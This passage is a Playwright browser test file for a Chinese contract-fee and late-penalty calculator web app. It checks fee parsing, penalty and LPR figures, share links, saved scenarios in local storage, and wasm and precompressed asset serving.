// Browser tests: serves dist/ (build it first: trunk build --release --offline), drives Debian's
// Chromium headless through playwright-core, and closes with 'N passed, M failed'.
//
// To add a test, append { name, run } to `tests`. Each run gets a fresh browser context and page
// ({ page, context, url, errors, newPage }); it throws to fail. `newPage()` opens one more fresh
// context (a second browser profile: its own local storage) whose errors land in the same list.
// After the run returns, any console error, page error, failed request or dialog recorded in
// `errors` fails it too.
//
// `node tests/browser/run.mjs WORD` runs only the tests whose name contains WORD.
import zlib from 'node:zlib';
import fs from 'node:fs';
import crypto from 'node:crypto';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { ROOT, DIST, serveDir, launchBrowser, collectErrors, requireDist, offlineCopyReady, beforeUnloadAsked } from './lib.mjs';
import { WORKING_KEY, SAVED_PREFIX, LANG_KEY, QUARANTINE_PREFIX, LINK_DRAFT_KEY } from './keys.mjs';

const TEST_TIMEOUT_MS = 30_000;

// The starter scenario (src/document/samples.rs): 2025, monthly, 45,000 + 5,000 a month, 12 months.
const STARTER_NAME = '售后外包运营合同';
const STARTER_TOTAL = '¥600,000.00';

const TOTAL = '[data-testid=contract-total]';
const PENALTY = '[data-testid=late-penalty]';
const NAME = '[data-testid=scenario-name]';
const FEE0 = 'fees.components[0].amount';
const FEE1 = 'fees.components[1].amount';

// ---------------------------------------------------------------------------------------------
// Helpers

function fail(msg) {
  throw new Error(msg);
}

function assert(cond, msg) {
  if (!cond) fail(msg);
}

function assertEq(got, want, what) {
  if (got !== want) fail(`${what}: expected ${JSON.stringify(want)}, got ${JSON.stringify(got)}`);
}

/** Waits until `selector` exists and its text is exactly `expected`. */
async function expectText(page, selector, expected) {
  const el = page.locator(selector).first();
  await el.waitFor({ state: 'visible' });
  try {
    await page.waitForFunction(
      ([sel, want]) => document.querySelector(sel)?.textContent?.trim() === want,
      [selector, expected],
      { timeout: 5_000 },
    );
  } catch {
    const got = (await el.textContent())?.trim();
    throw new Error(`${selector}: expected text ${JSON.stringify(expected)}, got ${JSON.stringify(got)}`);
  }
}

/** The trimmed text of the first element matching `selector`. */
async function textOf(page, selector) {
  return (await page.locator(selector).first().textContent())?.trim();
}

/** The text input bound to the form field at JSON path `path`. */
function field(page, path) {
  return page.locator(`[data-path="${path}"]`);
}

/**
 * Opens the app at `url` and waits until it has started (the static shell, which may show the
 * first figures before, is gone) and shows the contract total.
 */
async function openApp(page, url) {
  await page.goto(url);
  await page.locator('#shell').waitFor({ state: 'detached' });
  await page.locator(TOTAL).waitFor({ state: 'visible' });
}

/** Reloads and waits until the app has started again (see `openApp`). */
async function reloadApp(page) {
  await page.reload();
  await page.locator('#shell').waitFor({ state: 'detached' });
}

/** A copy of the page's local storage as a plain object. */
function storage(page) {
  return page.evaluate(() => {
    const out = {};
    for (let i = 0; i < localStorage.length; i++) {
      const k = localStorage.key(i);
      out[k] = localStorage.getItem(k);
    }
    return out;
  });
}

/** Waits until `pred(localStorage as an object)` holds; `what` names it in the failure. */
async function waitForStorage(page, pred, what) {
  const deadline = Date.now() + 5_000;
  let last;
  while (Date.now() < deadline) {
    last = await storage(page);
    if (pred(last)) return last;
    await page.waitForTimeout(50);
  }
  fail(`local storage never showed ${what}; it holds ${JSON.stringify(last).slice(0, 600)}`);
}

/** Banners whose text contains `text`. */
function bannerWith(page, text) {
  return page.getByTestId('banner').filter({ hasText: text });
}

async function expectBanner(page, text) {
  const b = bannerWith(page, text);
  try {
    await b.first().waitFor({ state: 'visible', timeout: 5_000 });
  } catch {
    const all = await page.getByTestId('banner').allTextContents();
    fail(`no banner containing ${JSON.stringify(text)}; banners: ${JSON.stringify(all)}`);
  }
  return b.first();
}

/** The text of a finished download. */
async function downloadText(download) {
  const stream = await download.createReadStream();
  const chunks = [];
  for await (const c of stream) chunks.push(c);
  return Buffer.concat(chunks).toString('utf8');
}

/** Clicks `locator` and returns the download it starts. */
async function clickForDownload(page, locator) {
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 5_000 }), locator.click()]);
  return dl;
}

/** A share fragment (`s1.` + base64url(raw deflate)) of any text, valid scenario or not. */
function fragmentOf(text) {
  return 's1.' + zlib.deflateRawSync(Buffer.from(text, 'utf8'), { level: 9 }).toString('base64url');
}

/** Saves the current form under `name` through the saved-scenarios panel (opening it if closed). */
async function saveAs(page, name, shown = name) {
  const panel = page.getByTestId('saved-panel');
  if (!(await panel.isVisible())) await page.getByTestId('toggle-list').click();
  await page.getByTestId('save-name').fill(name);
  await page.getByTestId('save-as').click();
  await page.getByTestId('saved-list').locator('li', { hasText: shown }).first().waitFor();
}

/** Names in the saved-scenarios list, top to bottom. */
function savedNames(page) {
  return page.locator('[data-testid=saved-list] .saved-name').allTextContents();
}

/** The row of the saved-scenarios list naming `name` exactly. */
function savedRow(page, name) {
  return page.locator('[data-testid=saved-list] li').filter({
    has: page.locator('.saved-name', { hasText: new RegExp(`^${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) }),
  });
}

/** The saved entries in a copy of local storage, parsed. */
function savedEntries(store) {
  return Object.keys(store).filter((k) => k.startsWith(SAVED_PREFIX)).map((k) => JSON.parse(store[k]));
}

/** A second tab in the same browser profile (shared local storage), its errors in `errors`. */
async function secondTab(context, errors) {
  const p = await context.newPage();
  p.setDefaultTimeout(15_000);
  collectErrors(p, errors, '[tab 2] ');
  return p;
}

/** A second tab ([`secondTab`]) with the saved scenario `name` opened in it. */
async function secondTabWith(context, errors, url, name) {
  const tab = await secondTab(context, errors);
  await openApp(tab, url);
  await tab.getByTestId('toggle-list').click();
  await savedRow(tab, name).getByTestId('open-saved').click();
  await expectText(tab, NAME, name);
  return tab;
}

/** Makes every write to storage fail as when the quota is used up (or work again). */
async function setStorageFull(page, full) {
  await page.evaluate((on) => {
    if (!window.__realSetItem) window.__realSetItem = Storage.prototype.setItem;
    Storage.prototype.setItem = on
      ? function () { throw new DOMException('The quota has been exceeded.', 'QuotaExceededError'); }
      : window.__realSetItem;
  }, full);
}

/** The autosaved draft renamed `name`, as an exported file would hold it. */
function exportedDraft(page, name) {
  return page.evaluate(([key, n]) => {
    const doc = JSON.parse(localStorage.getItem(key));
    doc.name = n;
    return JSON.stringify(doc);
  }, [WORKING_KEY, name]);
}

// ---------------------------------------------------------------------------------------------
// Tests

const tests = [
  {
    name: 'the page loads the wasm app and shows the example contract total',
    async run({ page, url }) {
      const wasm = page.waitForResponse((r) => r.url().endsWith('.wasm'));
      await page.goto(url);
      const res = await wasm;
      const type = res.headers()['content-type'];
      if (type !== 'application/wasm') throw new Error(`.wasm served as ${type}`);
      await expectText(page, '[data-testid=contract-total]', '¥600,000.00');
    },
  },
  {
    name: 'the precompressed files (.gz by Zopfli, .br) are the files, and a host serving them serves the app',
    async run({ page }) {
      const names = fs.readdirSync(DIST).filter((n) => /\.(html|js|css|wasm|svg)$/.test(n));
      for (const name of names) {
        const body = fs.readFileSync(path.join(DIST, name));
        for (const [suffix, inflate] of [['.gz', zlib.gunzipSync], ['.br', zlib.brotliDecompressSync]]) {
          const packed = fs.readFileSync(path.join(DIST, name + suffix));
          if (!inflate(packed).equals(body)) throw new Error(`${name}${suffix} is not ${name}`);
          if (packed.length >= body.length && body.length > 1024) throw new Error(`${name}${suffix} is no smaller`);
        }
      }
      // The style sheet and boot.js, their comments taken out after Trunk named them, carry the
      // hash of what they now hold: a name served as immutable never carries other bytes.
      for (const stem of ['main', 'boot']) {
        const name = names.find((n) => new RegExp(`^${stem}-[0-9a-f]{16}\\.(css|js)$`).test(n));
        assert(name, `no ${stem}-<hash> in ${names}`);
        const hash = crypto.createHash('sha256').update(fs.readFileSync(path.join(DIST, name))).digest('hex').slice(0, 16);
        assertEq(name.split('-')[1].split('.')[0], hash, `${name}'s hash`);
      }
      const host = await serveDir(DIST, { encoding: 'precompressed' });
      try {
        const wasm = page.waitForResponse((r) => /contract-calc-web-.*\.wasm$/.test(r.url()));
        await page.goto(host.url);
        const encoding = (await wasm).headers()['content-encoding'];
        if (encoding !== 'br') throw new Error(`app wasm sent with content-encoding ${encoding}`);
        await expectText(page, '[data-testid=contract-total]', '¥600,000.00');
      } finally {
        await host.close();
      }
    },
  },
  {
    name: 'the page has the product heading and the zh-CN language',
    async run({ page, url }) {
      await openApp(page, url);
      await expectText(page, 'h1', '售后服务外包合同计算器');
      const lang = await page.getAttribute('html', 'lang');
      if (lang !== 'zh-CN') throw new Error(`<html lang> is ${JSON.stringify(lang)}`);
    },
  },
  {
    name: 'typing a fee as 5万 updates the total without pressing any button',
    async run({ page, url }) {
      await openApp(page, url);
      await expectText(page, TOTAL, STARTER_TOTAL);
      const input = field(page, FEE0);
      assertEq(await input.inputValue(), '45000.00', 'the starter base fee');
      await input.fill('');
      await input.pressSequentially('5万', { delay: 20 });
      assertEq(await input.inputValue(), '5万', 'the fee as typed is kept');
      await expectText(page, TOTAL, '¥660,000.00');
      // The field echoes what 5万 means, and the per-cycle sum follows.
      const echo = page.locator(`#f-fees-components-0--amount ~ .echo`);
      assertEq((await echo.textContent())?.trim(), '= ¥50,000.00', 'the echo of 5万');
      await expectText(page, '.sum strong', '¥55,000.00');
      assertEq(await page.getByTestId('stale').count(), 0, 'stale notes on a valid form');
    },
  },
  {
    name: 'an invalid fee shows its message beside the field and keeps the last figures, marked stale',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');
      await field(page, FEE0).fill('abc');
      const err = page.locator('#f-fees-components-0--amount-err');
      await page.waitForFunction(
        () => document.querySelector('#f-fees-components-0--amount-err')?.textContent?.trim() !== '',
      );
      const msg = (await err.textContent()).trim();
      assert(msg.includes('“abc”') && msg.includes('不是金额'),
        `the field's error should quote "abc" and say it is not an amount, got ${JSON.stringify(msg)}`);
      assertEq(await field(page, FEE0).getAttribute('aria-invalid'), 'true', 'aria-invalid of the field');
      const describedBy = await field(page, FEE0).getAttribute('aria-describedby');
      assert(describedBy.split(/\s+/).includes('f-fees-components-0--amount-err'),
        `the field's aria-describedby should name its error, got ${JSON.stringify(describedBy)}`);
      const stale = page.getByTestId('stale');
      await stale.waitFor({ state: 'visible' });
      assert((await stale.textContent()).includes('1 处'), `stale note: ${await stale.textContent()}`);
      // The last valid total (with 5万), not the starter's.
      await expectText(page, TOTAL, '¥660,000.00');
      assertEq(await field(page, FEE0).inputValue(), 'abc', 'what the user typed is kept');
      // Fixing it clears the message and the stale mark.
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await stale.waitFor({ state: 'detached' });
      assertEq((await err.textContent()).trim(), '', 'the error after fixing the field');
    },
  },
  {
    name: 'a reload keeps the scenario being edited',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'name').fill('重新加载测试');
      await field(page, FEE1).fill('1万');
      await expectText(page, TOTAL, '¥660,000.00');
      await expectText(page, NAME, '重新加载测试');
      await reloadApp(page);
      await page.locator(TOTAL).waitFor();
      await expectText(page, TOTAL, '¥660,000.00');
      await expectText(page, NAME, '重新加载测试');
      assertEq(await field(page, 'name').inputValue(), '重新加载测试', 'the name field after reload');
      const store = await storage(page);
      assert(store[WORKING_KEY]?.includes('重新加载测试'), 'the working scenario is stored');
    },
  },
  {
    name: 'a share link opened in a new browser shows the same figures and writes nothing until saved',
    async run({ page, context, url, newPage }) {
      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(url).origin });
      const requested = [];
      page.on('request', (r) => requested.push(new URL(r.url()).pathname));
      await openApp(page, url);
      await field(page, 'name').fill('分享测试');
      await field(page, 'as_of').fill('2025-09-30');
      await field(page, FEE1).fill('8000');
      await expectText(page, TOTAL, '¥636,000.00');
      await expectText(page, PENALTY, '¥9,321.00');
      // The QR code's module is loaded only when a link is shared.
      assertEq(requested.filter((p) => p.includes('contract-calc-qr-')).length, 0, 'QR-module requests before sharing');
      await page.getByTestId('copy-link').click();
      const linkText = page.getByTestId('link-text');
      await linkText.waitFor({ state: 'visible' });
      const link = await linkText.inputValue();
      assert(link.startsWith(`${url}#s1.`), `the link should be ${url}#s1.…, got ${link.slice(0, 80)}`);
      await page.waitForFunction(() => !document.querySelector('[data-testid=share-panel] p')?.textContent?.includes('…'));
      const note = await textOf(page, '[data-testid=share-panel] p');
      assert(note.startsWith('链接已复制'), `the share panel should say the link was copied, got ${JSON.stringify(note)}`);
      assertEq(await page.evaluate(() => navigator.clipboard.readText()), link, 'the clipboard');
      await page.getByTestId('qr').locator('svg').waitFor();
      assertEq(await page.getByTestId('qr-unavailable').count(), 0, 'a note that the QR code cannot be drawn');
      assertEq(await page.getByTestId('qr').getAttribute('data-loading'), null, 'a placeholder beside the QR code');

      // A new browser profile with nothing stored.
      const fresh = await newPage();
      await fresh.goto(link);
      await expectText(fresh, TOTAL, '¥636,000.00');
      await expectText(fresh, PENALTY, '¥9,321.00');
      await expectText(fresh, NAME, '分享测试');
      const banner = await expectBanner(fresh, '分享链接打开的方案');
      await banner.getByTestId('save-link').waitFor({ state: 'visible' });
      await expectText(fresh, '[data-testid=save-state]', '来自链接，未保存');
      // On a phone, the link's reader finds the figures first, above the form, as the page
      // showed them while it loaded; once saved, the form comes first again.
      await fresh.setViewportSize({ width: 390, height: 844 });
      const top = (sel) => fresh.locator(sel).evaluate((e) => e.getBoundingClientRect().top);
      assert(await top('#results') < await top('section.inputs'), 'the figures above the form on a phone');
      // Editing the linked scenario writes nothing either.
      await field(fresh, FEE1).fill('9000');
      await expectText(fresh, TOTAL, '¥648,000.00');
      await field(fresh, FEE1).fill('8000');
      await expectText(fresh, TOTAL, '¥636,000.00');
      await fresh.waitForTimeout(300);
      let store = await storage(fresh);
      assert(!(WORKING_KEY in store), `the link wrote ${WORKING_KEY} before the user saved: ${store[WORKING_KEY]?.slice(0, 120)}`);
      assertEq(Object.keys(store).filter((k) => k.startsWith(SAVED_PREFIX)).length, 0, 'saved scenarios before saving');
      // Saving keeps it, drops the fragment and the banner.
      await banner.getByTestId('save-link').click();
      store = await waitForStorage(fresh, (s) => s[WORKING_KEY]?.includes('分享测试'), 'the saved link scenario');
      const saved = Object.keys(store).filter((k) => k.startsWith(SAVED_PREFIX));
      assertEq(saved.length, 1, 'saved scenarios after saving');
      assert(JSON.parse(store[saved[0]]).name === '分享测试', `saved entry: ${store[saved[0]].slice(0, 200)}`);
      assertEq(await fresh.evaluate(() => location.hash), '', 'the address fragment after saving');
      await bannerWith(fresh, '分享链接打开的方案').waitFor({ state: 'detached' });
      await expectText(fresh, '[data-testid=save-state]', '已保存');
      assert(await top('#results') > await top('section.inputs'), 'the form first once saved');
      await reloadApp(fresh);
      await expectText(fresh, TOTAL, '¥636,000.00');
      await expectText(fresh, NAME, '分享测试');

      // A profile that already had its own working scenario keeps it, byte for byte.
      const mine = await newPage();
      await openApp(mine, url);
      await field(mine, 'name').fill('我本机的方案');
      const before = (await waitForStorage(mine, (s) => s[WORKING_KEY]?.includes('我本机的方案'), 'my own scenario'))[WORKING_KEY];
      await mine.goto('about:blank');
      await mine.goto(link);
      await expectText(mine, NAME, '分享测试');
      await expectText(mine, TOTAL, '¥636,000.00');
      await expectBanner(mine, '不会被覆盖');
      await field(mine, FEE0).fill('1');
      await expectText(mine, TOTAL, '¥96,012.00');
      await mine.waitForTimeout(300);
      assertEq((await storage(mine))[WORKING_KEY], before, `${WORKING_KEY} after opening a link and editing it`);
      // "Discard, back to mine" brings the stored one back.
      await bannerWith(mine, '不会被覆盖').getByRole('button', { name: '放弃，回到我的方案' }).click();
      await expectText(mine, NAME, '我本机的方案');
      await expectText(mine, TOTAL, STARTER_TOTAL);
    },
  },
  {
    name: 'edits to a linked scenario survive a reload of that tab and still write nothing stored',
    async run({ page, url, newPage }) {
      await openApp(page, url);
      await field(page, 'name').fill('链接编辑');
      await field(page, 'as_of').fill('2025-09-30');
      await page.getByTestId('copy-link').click();
      const link = await page.getByTestId('link-text').inputValue();
      const fresh = await newPage();
      await fresh.goto(link);
      await expectText(fresh, NAME, '链接编辑');
      // ¥45,000 + ¥5,000 a month → ¥40,000 + ¥5,000: the 2025 total drops to ¥540,000.
      await field(fresh, FEE0).fill('40000');
      await expectText(fresh, TOTAL, '¥540,000.00');
      // The skip link and the phone's summary bar lead to the figures without touching the
      // address: its fragment is the link.
      const before = await fresh.evaluate(() => location.hash);
      await fresh.getByTestId('skip-to-results').focus();
      await fresh.keyboard.press('Enter');
      assertEq(await fresh.evaluate(() => document.activeElement?.id), 'results', 'focus after the skip link');
      await fresh.getByTestId('summary-bar').dispatchEvent('click');
      // So does the list of fields to fix.
      await field(fresh, FEE0).fill('四万');
      await fresh.locator('[data-testid=stale] a').first().click();
      assertEq(await fresh.evaluate(() => document.activeElement?.dataset.path), FEE0, 'focus after the error link');
      await field(fresh, FEE0).fill('40000');
      assertEq(await fresh.evaluate(() => location.hash), before, 'the address after the anchors');
      await fresh.waitForTimeout(400);
      await reloadApp(fresh);
      await expectText(fresh, TOTAL, '¥540,000.00');
      await expectBanner(fresh, '分享链接打开的方案');
      const store = await storage(fresh);
      assert(!(WORKING_KEY in store), `reloading a linked scenario wrote ${WORKING_KEY}`);
      // With no work of its own on this device, discarding starts a new scenario (the starter),
      // and says so rather than "back to mine", and forgets the edits.
      await bannerWith(fresh, '分享链接打开的方案').getByRole('button', { name: '放弃，新建方案' }).click();
      await expectText(fresh, NAME, STARTER_NAME);
      assertEq(await fresh.evaluate((k) => sessionStorage.getItem(k), LINK_DRAFT_KEY), null, 'the tab draft after discarding');
    },
  },
  {
    name: 'a contract into 2027 computes on the provisional calendar; a date before 2010 is named at the calendar',
    async run({ page, url }) {
      await openApp(page, url);
      // Service to the end of 2026: December's fee falls due in January 2027, after the last
      // published holiday notice. The 放假办法 gives 2027's rest days (spec §10): the figures
      // compute, 24 months at ¥50,000 = ¥1,200,000.
      await field(page, 'contract.end').fill('2026-12-31');
      await expectText(page, TOTAL, '¥1,200,000.00');
      assertEq(await page.getByTestId('stale').count(), 0, 'no stale note');
      const err = page.locator('#f-payment-calendar-err');
      assertEq((await err.textContent()).trim(), '', 'no calendar error');
      // From November 2009 the first fee falls due in December 2009, before the table (2010).
      await field(page, 'contract.start').fill('2009-11-01');
      await page.waitForFunction(() => document.querySelector('#f-payment-calendar-err')?.textContent?.includes('2009-12-10'));
      assert((await err.textContent()).includes('2010-01-01'), `calendar error: ${await err.textContent()}`);
      await page.getByTestId('stale').waitFor({ state: 'visible' });
      const link = page.getByTestId('stale').locator('a[href="#f-payment-calendar"]');
      assertEq(await link.count(), 1, 'links from the stale note to the calendar field');
      // Weekends only: 206 months (2009-11 to 2026-12) at ¥50,000 = ¥10,300,000.
      await page.selectOption('#f-payment-calendar', { label: '仅周末休息' });
      await expectText(page, TOTAL, '¥10,300,000.00');
      await page.getByTestId('stale').waitFor({ state: 'detached' });
      assertEq((await err.textContent()).trim(), '', 'the calendar error after switching');
    },
  },
  {
    name: 'a rate typed with its unit sign means that unit whatever the selector says, and is echoed in words',
    async run({ page, url }) {
      await openApp(page, url);
      // The starter's 日万分之五 (5 in ‱), and the penalty it gives as of today.
      const echo = page.getByTestId('rate-echo');
      await expectText(page, '[data-testid=rate-echo]', '日万分之五 = 0.05%/日 = 年18.25%');
      const penalty = (await page.locator(PENALTY).textContent()).trim();
      const rate = field(page, 'late_payment.rate.fraction');
      const units = { '%': '% 百分之', '‰': '‰ 千分之', '‱': '‱ 万分之' };
      const bare = { '%': '0.05', '‰': '0.5', '‱': '5' };
      // Every unit chosen × every way of typing 万分之五: a bare number in that unit, or with a
      // sign or word of its own, which wins over the selector.
      for (const [chosen, label] of Object.entries(units)) {
        await page.selectOption('#f-late_payment-rate-unit', { label });
        for (const typed of [bare[chosen], '0.05%', '0.5‰', '5‱', '万分之5']) {
          await rate.fill(typed);
          await expectText(page, PENALTY, penalty);
          await expectText(page, '[data-testid=rate-echo]', '日万分之五 = 0.05%/日 = 年18.25%');
        }
      }
      // From a Chinese keyboard's full-width digits and sign, the same rate.
      await rate.fill('０．０５％');
      await expectText(page, PENALTY, penalty);
      await expectText(page, '[data-testid=rate-echo]', '日万分之五 = 0.05%/日 = 年18.25%');
      // A bare 0.0005 with ‱ chosen is 10,000 times smaller, and the echo says so plainly.
      await page.selectOption('#f-late_payment-rate-unit', { label: units['‱'] });
      await rate.fill('0.0005');
      await expectText(page, '[data-testid=rate-echo]', '日万分之零点零零零五 = 0.000005%/日 = 年0.001825%');
      assert((await page.locator(PENALTY).textContent()).trim() !== penalty, 'a different penalty');
      // Two signs are refused with a message that shows how to type it.
      await rate.fill('5‱%');
      const err = page.locator('#f-late_payment-rate-fraction-err');
      await page.waitForFunction(() => document.querySelector('#f-late_payment-rate-fraction-err')?.textContent?.includes('0.05%'));
      assert((await err.textContent()).includes('5‱'), `message: ${await err.textContent()}`);
      assertEq((await echo.textContent()).trim(), '', 'no echo for an unreadable rate');
    },
  },
  {
    name: 'a lawyer reads the 计算明细 with dates, copies it for a claim, and sees whether the penalty may be reduced',
    async run({ page, context, url }) {
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      await openApp(page, url);
      // Before the card is opened, whether the penalty may be reduced (Art. 585) is said in a line.
      const summary = await page.locator('[data-card=late-penalty] > summary').textContent();
      assert(/违约金为按 LPR 计算的损失的 [\d.]+ 倍，超过 1\.3 倍：法院可依申请酌减（第585条）/.test(summary), summary);
      await page.locator('[data-card=late-penalty] > summary').click();
      const table = page.getByTestId('claim-table');
      await table.waitFor();
      // The starter's March fee: ¥20,000 paid 50 days late, 2025-04-11 to 2025-05-30 at 0.05%/日.
      const rows = await table.locator('tbody tr').allTextContents();
      assert(rows.some((r) => r.includes('¥20,000.00') && r.includes('2025-04-11') && r.includes('2025-05-30') && r.includes('50')),
        `claim rows: ${JSON.stringify(rows)}`);
      await page.getByTestId('copy-claim').click();
      await expectText(page, '[data-testid=claim-copied]', '计算明细已复制。');
      const copied = await page.evaluate(() => navigator.clipboard.readText());
      const lines = copied.split('\n');
      assertEq(lines[0], '计费期间\t逾期款项\t起算日\t截止日\t天数\t利率\t违约金\t备注', 'the header line');
      assert(lines.some((l) => l.startsWith('2025-03-01 – 2025-03-31\t¥20,000.00\t2025-04-11\t2025-05-30\t50\t0.05%/日\t¥500.00')),
        `copied text: ${copied}`);
      const total = (await page.locator(PENALTY).textContent()).trim();
      assert(lines[lines.length - 1].includes(total), `the total line ${lines[lines.length - 1]} names ${total}`);
      // §11 in plain words, citing Art. 585, as a reference.
      const reason = (await page.getByTestId('reasonableness').textContent()).trim();
      assert(reason.includes('第585条第2款') && reason.includes('倍') && reason.includes('不构成法律意见'), reason);
      // As of today the LPR runs past the table's last verified day: said beside the figures.
      await page.locator('[data-testid=warnings] li[data-code=lpr_beyond_table]').waitFor();
    },
  },
  {
    name: 'a contract into 2027 says its holidays are provisional; a settlement long due shows its overdue days and interest',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'contract.end').fill('2027-06-30');
      const warning = page.locator('[data-testid=warnings] li[data-code=calendar_provisional]');
      await warning.waitFor();
      assert((await warning.textContent()).includes('内置数据未收录2027年的放假安排'), await warning.textContent());
      await field(page, 'contract.end').fill('2025-12-31');
      // Terminated for the client's breach on 2025-07-31, settled within 30 days (2025-08-30 is
      // a Saturday: due Monday 09-01). As of today it is long overdue.
      await page.locator('#f-term-on').check();
      await field(page, 'termination.date').fill('2025-07-31');
      await page.selectOption('#f-termination-reason', { label: '甲方违约' });
      const overdue = page.getByTestId('settlement-overdue');
      await overdue.waitFor();
      const text = (await overdue.textContent()).trim();
      // Days after the LPR data's last day (2026-04-19) are said to take an assumed LPR.
      assert(/^已逾期 \d+ 日未付；按一年期 LPR 计（2026年4月19日后的 LPR 为假设），逾期利息 ¥[\d,]+\.\d\d/.test(text), text);
      // The right to terminate for late payment (more than 60 days) arose only on 2025-08-10.
      const note = (await page.getByTestId('termination-right').textContent()).trim();
      assert(note.includes('逾期超过60日') && note.includes('2025年8月10日') && note.includes('2025年7月31日'), note);
      // Terminated after it arose: no note.
      await field(page, 'termination.date').fill('2025-09-30');
      await page.getByTestId('termination-right').waitFor({ state: 'detached' });
    },
  },
  {
    name: 'the what-if says what it assumes beyond the page\'s own figures: an LPR past the built-in table',
    async run({ page, url }) {
      await openApp(page, url);
      // Evaluated on 2025-09-30, every figure's days are within the LPR table (to 2026-04-19).
      await field(page, 'as_of').fill('2025-09-30');
      await page.getByTestId('what-if-days').fill('30');
      // Its figure for 30 days is in (drawn with its assumptions, in one step): none of its own.
      await page.waitForFunction(() => /^¥/.test(document.querySelector('[data-testid=what-if-penalty]')?.textContent?.trim() ?? ''));
      assertEq(await page.getByTestId('what-if-assumes').count(), 0, 'no assumption of its own at 30 days');
      // December's fee, due in January 2026, paid 120 days late runs into May 2026. At the
      // starter's fixed rate only the Art. 585 reference's loss takes the LPR after the table,
      // which the what-if's penalty does not show: it assumes nothing.
      await page.getByTestId('what-if-days').fill('120');
      await page.waitForTimeout(400);
      assertEq(await page.getByTestId('what-if-assumes').count(), 0, 'an assumption of the reference beside the penalty');
      // At 1.5 × the floating LPR the penalty itself takes it, and the what-if says so.
      await page.getByTestId('preset-floating-lpr').click();
      await expectText(page, '[data-testid=what-if-assumes]', '（此数字另有假设：2026年4月19日之后的 LPR 按此前最近一次报价计；如已公布新的报价，请在“LPR 报价”中补充）');
      await page.getByTestId('what-if-days').fill('30');
      await page.getByTestId('what-if-assumes').waitFor({ state: 'detached' });
    },
  },
  {
    name: 'a negotiator compares a 2027 contract\'s terms as if every invoice were paid D days late',
    async run({ page, url }) {
      await openApp(page, url);
      // Not started yet: no penalty to date, but the what-if prices the clause: 12 months ×
      // ¥50,000 × 0.05% × 30 days = ¥9,000.
      await field(page, 'contract.start').fill('2027-01-01');
      await field(page, 'contract.end').fill('2027-12-31');
      await expectText(page, PENALTY, '¥0.00');
      await expectText(page, '[data-testid=what-if-penalty]', '¥9,000.00');
      await page.getByTestId('what-if-days').fill('45');
      await expectText(page, '[data-testid=what-if-penalty]', '¥13,500.00');
      // Over 30 days late the supplier may suspend; over 60 it may also terminate (the
      // starter's terms), and the what-if says both.
      await expectText(page, '[data-testid=what-if] .warn', '（乙方届时有权暂停服务）');
      await page.getByTestId('what-if-days').fill('61');
      await expectText(page, '[data-testid=what-if] .warn', '（乙方届时有权暂停服务，并有权解除合同）');
      // Days that are not a whole number from 0 to 3,660 are refused, and the figure for other
      // days is not left standing beside them.
      await page.getByTestId('what-if-days').fill('-5');
      await expectText(page, '[data-testid=what-if-problem]', '迟付天数应为 0 至 3660 之间的整数');
      await expectText(page, '[data-testid=what-if-penalty]', '—');
      assertEq(await page.getByTestId('what-if-days').getAttribute('aria-invalid'), 'true', 'the days refused');
      assertEq(await page.locator('[data-testid=what-if] .warn').count(), 0, 'rights shown for refused days');
      // "1,2" is not twelve days; full-width digits are days as the form reads them.
      await page.getByTestId('what-if-days').fill('1,2');
      await expectText(page, '[data-testid=what-if-problem]', '迟付天数应为 0 至 3660 之间的整数');
      await page.getByTestId('what-if-days').fill('６１');
      await expectText(page, '[data-testid=what-if-penalty]', '¥18,300.00');
      await page.getByTestId('what-if-days').fill('-5');
      // The clause switched off and on again: the row is made anew with the last right days,
      // and no message is left from the days refused before.
      await page.locator('#f-late-on').uncheck();
      await page.getByTestId('what-if').waitFor({ state: 'detached' });
      await page.locator('#f-late-on').check();
      await expectText(page, '[data-testid=what-if-penalty]', '¥18,300.00');
      assertEq(await page.getByTestId('what-if-days').inputValue(), '61', 'the days shown again');
      assertEq((await page.getByTestId('what-if-problem').textContent()).trim(), '', 'the message after the row is made again');
      await page.getByTestId('what-if-days').fill('45');
      await expectText(page, '[data-testid=what-if-penalty]', '¥13,500.00');
      assertEq((await page.getByTestId('what-if-problem').textContent()).trim(), '', 'the message once the days are right');
      // The exposure curve (penalty if nothing more is paid) in the penalty breakdown.
      await page.locator('[data-card=late-penalty] > summary').click();
      await page.getByTestId('exposure').waitFor();
      // The comparison has the same what-if row, at the days chosen.
      await saveAs(page, '万分之五');
      await field(page, 'late_payment.rate.fraction').fill('10');
      await expectText(page, '[data-testid=what-if-penalty]', '¥27,000.00');
      await saveAs(page, '万分之十');
      await page.getByTestId('open-compare').click();
      const pickFor = (name) => page.locator('.picker label', { hasText: name }).locator('input');
      await pickFor('万分之五').check();
      await pickFor('万分之十').check();
      const current = page.locator('.picker label', { hasText: '当前方案' }).locator('input');
      if (await current.isChecked()) await current.uncheck();
      const tr = page.locator('[data-testid=comparison] tr[data-key=what_if_late]');
      await tr.waitFor();
      assertEq((await tr.locator('th').textContent()).trim(), '若每期均迟付45日的违约金', 'row label');
      const cells = (await tr.locator('td').allTextContents()).map((t) => t.trim());
      assertEq(JSON.stringify(cells), JSON.stringify(['¥13,500.00', '¥27,000.00']), 'what-if row');
    },
  },
  {
    name: 'the clause wordings people copy are one click each, and a newer LPR can be added',
    async run({ page, url }) {
      await openApp(page, url);
      const before = (await page.locator(PENALTY).textContent()).trim();
      // 按同期一年期LPR的1.5倍: an LPR rate, floating.
      await page.getByTestId('preset-floating-lpr').click();
      assertEq(await page.locator('#f-late_payment-rate-lpr_fixing option:checked').textContent(), '同期（浮动）', 'LPR fixing');
      // The multiple is echoed with what it adds to the LPR, also typed on a full-width keyboard;
      // "1.5%" typed as a multiple is 0.015 × the LPR, and the echo says it is below the LPR.
      await expectText(page, '[data-testid=rate-echo]', 'LPR 的 1.5 倍（上浮 50%）');
      const multiple = field(page, 'late_payment.rate.lpr_multiple');
      await multiple.fill('1.5%');
      await expectText(page, '[data-testid=rate-echo]', 'LPR 的 0.015 倍，低于 LPR 本身：约定“上浮50%”或“1.5倍”均应输入 1.5');
      // Shown as a caution (the warning colour), not as the usual echo.
